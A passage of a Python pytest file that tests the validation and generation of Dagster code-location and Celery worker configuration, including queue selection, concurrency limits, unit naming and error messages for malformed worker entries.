    assert_field(filter_error(workspace, [{**MODULE, key: value}]), f"dagster_code_locations[0] ('example').{key}")


@pytest.mark.parametrize("key", ["executor", "celery_queues"])
def test_executor_keys_on_an_external_grpc_location_point_at_deploy_to(filter_error, assert_field, key):
    value = "celery" if key == "executor" else ["fast"]
    message = filter_error(workspace, [{**GRPC, key: value}])
    assert_field(message, f"dagster_code_locations[0] ('etl').{key}")
    assert "need deploy_to" in message


# ---------------------------------------------------------------- dagster_celery_workers

ML = {**DEPLOYED, "name": "ml", "port": 4001, "deploy_to": "code2", "module": "ml.defs",
      "source": {"directory": "/src/ml"}, "executor": "celery", "celery_queues": ["fast", "slow"]}
WORKER_LOCATIONS = [CELERY, {**DEPLOYED, "name": "report", "port": 4002}, ML, MODULE]


def _queues(workers):
    return [(worker["name"], worker["queues"], worker["concurrency"]) for worker in workers]


def test_by_default_a_worker_host_serves_every_celery_location_on_all_of_its_queues():
    result = celery_workers(WORKER_LOCATIONS, "worker1", concurrency=3)
    assert _queues(result) == [("etl", ["dagster"], 3), ("ml", ["fast", "slow"], 3)]


@pytest.mark.parametrize("wanted", [None, []])
def test_no_entries_mean_every_celery_location(wanted):
    assert _queues(celery_workers(WORKER_LOCATIONS, "worker1", wanted)) == [
        ("etl", ["dagster"], 2), ("ml", ["fast", "slow"], 2)]


@pytest.mark.parametrize("wanted", [["ml"], [{"name": "ml"}]], ids=["name", "map"])
def test_an_entry_is_a_location_name_or_a_map(wanted):
    assert _queues(celery_workers(WORKER_LOCATIONS, "worker1", wanted)) == [("ml", ["fast", "slow"], 2)]


def test_an_entry_may_take_some_of_the_locations_queues_and_its_own_concurrency():
    wanted = [{"name": "ml", "queues": ["slow"], "concurrency": 8}, "etl"]
    assert _queues(celery_workers(WORKER_LOCATIONS, "worker1", wanted, concurrency=4)) == [
        ("ml", ["slow"], 8), ("etl", ["dagster"], 4)]


@pytest.mark.parametrize("concurrency", [1, 256])
def test_concurrency_limits_are_accepted(concurrency):
    (worker,) = celery_workers([CELERY], "worker1", concurrency=concurrency)
    assert worker["concurrency"] == concurrency
    (worker,) = celery_workers([CELERY], "worker1", [{"name": "etl", "concurrency": concurrency}])
    assert worker["concurrency"] == concurrency


@pytest.mark.parametrize("concurrency", [0, 257, -1, "2", True, 2.0, None])
def test_a_bad_concurrency_is_refused(filter_error, assert_field, concurrency):
    assert_field(filter_error(celery_workers, [CELERY], "worker1", concurrency=concurrency),
                 "dagster_celery_worker_concurrency")


@pytest.mark.parametrize("concurrency", [0, 257, "4", True, 4.0])
def test_a_bad_concurrency_of_an_entry_is_refused(filter_error, assert_field, concurrency):
    message = filter_error(celery_workers, [CELERY], "worker1", [{"name": "etl", "concurrency": concurrency}])
    assert_field(message, "dagster_celery_worker_locations of worker1[0].concurrency")


def test_a_worker_has_the_paths_and_environment_of_its_locations_code_server():
    located = [{**ML, "environment": {"A": "1"}, "packages": ["pandas==2.2.3"], "working_directory": "/srv/ml",
                "read_write_paths": ["/srv/ml/cache"], "memory_max": "1G", "attribute": "defs"}, CELERY]
    root = "/srv/dagster/code-locations"
    (server,) = servers(located, "code2", ADDRESSES, root=root, resolved=["10.0.0.13"])
    worker = celery_workers(located, "worker1", ["ml"], root=root)[0]
    own = {"unit", "kind", "queues", "concurrency"}
    assert {key: value for key, value in worker.items() if key not in own} == {
        key: value for key, value in server.items() if key not in {"unit", "kind", "port", "bind", "probe_host", "address"}}
    assert (worker["dir"], worker["venv"], worker["checkout"]) == (
        f"{root}/ml", f"{root}/ml/venv", f"{root}/ml/src")
    assert worker["target"] == ["--module-name", "ml.defs", "--attribute", "defs"]


def test_a_worker_has_its_own_unit_and_no_network_keys():
    (worker,) = celery_workers([CELERY], "worker1")
    assert worker["unit"] == "dagster-celery-worker@etl.service" and worker["kind"] == "worker"
    assert not {"port", "bind", "probe_host", "address"} & set(worker)
    assert (worker["executor"], worker["celery_queues"], worker["bundle"]) == ("celery", ["dagster"], "celery")


def test_a_host_with_no_celery_location_gets_no_worker():
    assert celery_workers([DEPLOYED, MODULE], "worker1") == []


def test_workers_validate_the_whole_list(filter_error, assert_field):
    bad = {**DEPLOYED, "name": "b", "deploy_to": "code2", "port": 0}
    assert_field(filter_error(celery_workers, [CELERY, bad], "worker1"), "dagster_code_locations[1] ('b').port")


# (the host's dagster_celery_worker_locations, the field the message must name after "... of worker1").
WANTED_ERRORS = {
    "not-a-list": ("etl", ""),
    "map-not-list": ({"name": "etl"}, ""),
    "entry-int": ([3], "[0]"),
    "entry-list": ([["etl"]], "[0]"),
    "unknown-key": ([{"name": "etl", "port": 4000}], "[0].port"),
    "undeclared-location": (["etl", "nope"], "[1].name"),
    "location-without-celery": (["report"], "[0].name"),
    "module-location": (["example"], "[0].name"),
    "no-name": ([{"queues": ["fast"]}], "[0].name"),
    "listed-twice": (["etl", {"name": "etl"}], "[1].name"),
    "queue-the-location-lacks": ([{"name": "ml", "queues": ["fast", "gpu"]}], "[0].queues"),
    "default-queue-of-a-queued-location": ([{"name": "ml", "queues": ["dagster"]}], "[0].queues"),
    "queues-empty": ([{"name": "ml", "queues": []}], "[0].queues"),
    "queue-twice": ([{"name": "ml", "queues": ["fast", "fast"]}], "[0].queues"),
    "queue-bad-name": ([{"name": "ml", "queues": ["fast lane"]}], "[0].queues"),
}


@pytest.mark.parametrize(("wanted", "field"), WANTED_ERRORS.values(), ids=WANTED_ERRORS.keys())
def test_bad_worker_entries_are_refused_naming_the_entry(filter_error, assert_field, wanted, field):
    message = filter_error(celery_workers, WORKER_LOCATIONS, "worker1", wanted)
    assert_field(message, f"dagster_celery_worker_locations of worker1{field}")


def test_an_undeclared_location_message_lists_the_celery_locations(filter_error):
    message = filter_error(celery_workers, WORKER_LOCATIONS, "worker1", ["report"])
    assert "'report' is not a location of dagster_code_locations with executor: celery (those are: etl, ml)" in message
